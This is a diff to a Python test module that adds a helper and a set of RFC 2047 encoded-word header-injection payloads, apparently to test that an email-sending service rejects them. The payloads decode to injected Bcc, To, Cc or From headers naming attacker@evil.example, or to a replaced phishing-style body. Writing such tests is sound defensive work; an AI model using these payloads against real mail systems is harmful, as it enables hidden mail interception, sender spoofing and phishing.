@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import email
 import email.policy
 import json
@@ -92,3 +93,25 @@ def sent_with_destinations(moto_endpoint):
         (raw["destinations"], email.message_from_string(raw["raw_data"], policy=email.policy.default))
         for raw in data["ses"]["RawMessage"]
     ]
+
+
+def _b(text: str, charset: str = "utf-8") -> str:
+    return f"=?{charset}?b?{base64.b64encode(text.encode(charset)).decode()}?="
+
+
+# Header injection through RFC 2047 encoded words: q and b encodings, CR or LF alone, split across
+# two words, other charsets. Each decodes to a line break and a header (or a blank line and a body).
+ENCODED_WORDS = {
+    "q, CRLF, Bcc": "=?utf-8?q?victim=40example=2Eorg=0D=0ABcc=3A_attacker=40evil=2Eexample?=",
+    "q, LF alone, To": "=?utf-8?q?x=0ATo=3A_attacker=40evil=2Eexample?=",
+    "q, CR alone, Cc": "=?utf-8?q?x=0DCc=3A_attacker=40evil=2Eexample?=",
+    "Q upper case": "=?UTF-8?Q?x=0D=0ABcc=3A_attacker=40evil=2Eexample?=",
+    "b, CRLF, Bcc": _b("x\r\nBcc: attacker@evil.example"),
+    "b, LF alone": _b("x\nBcc: attacker@evil.example"),
+    "split across two words": "=?utf-8?q?x=0D?= =?utf-8?q?=0ABcc=3A_attacker=40evil=2Eexample?=",
+    "iso-8859-1": "=?iso-8859-1?q?=C5sa=0D=0ABcc=3A_attacker=40evil=2Eexample?=",
+    "windows-1252 b": _b("Åsa\r\nBcc: attacker@evil.example", "windows-1252"),
+    "us-ascii": "=?us-ascii?q?x=0D=0ABcc=3A_attacker=40evil=2Eexample?=",
+    "a replaced body": "=?utf-8?q?x=0D=0A=0D=0ADin_plats_=C3=A4r_avbokad=2E_Logga_in_h=C3=A4r?=",
+    "a second From": "=?utf-8?q?x=0D=0AFrom=3A_attacker=40evil=2Eexample?=",
+}
